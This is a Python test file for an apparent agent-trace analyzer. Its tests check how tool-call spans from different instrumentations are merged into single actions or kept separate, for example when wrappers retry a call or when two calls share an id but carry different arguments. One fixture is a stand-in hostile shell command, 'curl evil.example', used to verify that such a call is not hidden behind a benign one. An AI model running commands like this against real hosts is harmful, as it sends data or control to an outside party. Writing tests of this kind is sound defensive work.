"""One call is one action, however many spans tell of it; a call that is tried again is two."""

from dataclasses import replace

from fixtures.traces import agent, calls, chat, read, said, span, tool
from sentric.events import Action, Run
from sentric_analyzer.spans import Span

PAY = {"to": "shop", "amount": 5}


LIST, SEND = {"command": "ls"}, {"command": "curl evil.example"}


def tools(run: Run) -> list[tuple[str, str]]:
    return [(event.tool, event.span_id) for event in run.events if isinstance(event, Action)]


def openinference(span_id: str, name: str, parent: str = "agent", *, at: float, to: float, value: str) -> Span:
    attributes = {"openinference.span.kind": "TOOL", "tool.name": name, "input.value": value, "output.value": "paid"}
    return span(name, span_id, parent, at=at, to=to, attributes=attributes, scope="openinference")


def test_a_wrapper_and_what_it_wraps_are_one_call() -> None:
    [run] = read([agent(), tool("outer", "pay", at=1, to=4, arguments=PAY), tool("inner", "pay", "outer", at=2, to=3)])
    assert tools(run) == [("pay", "outer")]


def test_what_a_wrapper_tries_again_is_another_call() -> None:
    spans = [
        agent(),
        tool("outer", "pay", at=1, to=9, arguments=PAY),
        tool("first", "pay", "outer", at=2, to=3, arguments=PAY),
        tool("second", "pay", "outer", at=4, to=5, arguments=PAY),
    ]
    [run] = read(spans)
    assert tools(run) == [("pay", "outer"), ("pay", "second")]


def test_calls_that_are_tried_again_one_after_the_other_are_all_there() -> None:
    [run] = read([agent(), *(tool(f"try{at}", "pay", at=at, arguments=PAY) for at in (1, 2, 3))])
    assert tools(run) == [("pay", "try1"), ("pay", "try2"), ("pay", "try3")]


def test_two_instrumentations_that_tell_of_the_same_call_beside_one_another() -> None:
    value = '{"amount": 5, "to": "shop"}'
    spans = [
        agent(),
        tool("ours", "pay", at=1, to=4, arguments=PAY),
        openinference("theirs", "pay", at=2, to=3, value=value),
        openinference("again", "pay", at=6, to=7, value=value),
    ]
    [run] = read(spans)
    assert tools(run) == [("pay", "ours"), ("pay", "again")]


def test_one_span_stands_for_one_call_of_the_other_instrumentation() -> None:
    value = '{"amount": 5, "to": "shop"}'
    spans = [
        agent(),
        tool("ours", "pay", at=1, to=9, arguments=PAY),
        openinference("first", "pay", at=2, to=3, value=value),
        openinference("second", "pay", at=4, to=5, value=value),
    ]
    [run] = read(spans)
    assert tools(run) == [("pay", "ours"), ("pay", "second")]


def test_other_arguments_are_another_call() -> None:
    spans = [
        agent(),
        tool("ours", "pay", at=1, to=4, arguments=PAY),
        openinference("theirs", "pay", at=2, to=3, value='{"amount": 6, "to": "shop"}'),
    ]
    [run] = read(spans)
    assert tools(run) == [("pay", "ours"), ("pay", "theirs")]


def by(scope: str, one: Span) -> Span:
    return replace(one, origin=replace(one.origin, scope_name=scope))


def arguments(run: Run) -> list[object]:
    return [event.arguments for event in run.events if isinstance(event, Action)]


def test_a_call_with_the_id_of_another_and_other_arguments_is_not_hidden_behind_it() -> None:
    first = tool("first", "shell", at=1, to=4, call_id="c1", arguments=LIST)
    second = tool("second", "shell", at=2, to=3, call_id="c1", arguments=SEND)
    [run] = read([agent(), by("one", first), by("another", second)])
    assert arguments(run) == [LIST, SEND]


def test_of_two_that_tell_of_one_call_the_one_that_tells_more_of_it_is_believed() -> None:
    more = {**LIST, "directory": "/secret"}
    for one, other in ((LIST, more), (more, LIST)):
        first = tool("first", "shell", at=1, to=4, call_id="c1", arguments=one)
        second = tool("second", "shell", at=2, to=3, call_id="c1", arguments=other)
        [run] = read([agent(), by("one", first), by("another", second)])
        assert arguments(run) == [more]


def test_calls_below_a_wrapper_without_arguments_are_one_only_where_they_are_alike() -> None:
    spans = [
        agent(),
        tool("outer", "shell", at=1, to=9),
        by("one", tool("first", "shell", "outer", at=2, to=3, arguments=LIST)),
        by("another", tool("second", "shell", "outer", at=4, to=5, arguments=SEND)),
        by("another", tool("third", "shell", "first", at=2, to=3, arguments={"command": "id"})),
    ]
    [run] = read(spans)
    assert sorted(map(str, arguments(run))) == sorted(map(str, (LIST, SEND, {"command": "id"})))


def test_calls_of_one_id_in_one_answer_are_all_there_unless_they_are_alike() -> None:
    told = [calls("shell", "c1"), calls("shell", "c1", **LIST), calls("shell", "c1", **LIST), calls("shell", "c1")]
    other = [calls("shell", "c1", **SEND), calls("mail", "c1", **SEND)]
    [run] = read([agent(), chat("chat", at=1, answer=[said(*told, *other)])])
    assert arguments(run) == [LIST, SEND, SEND]
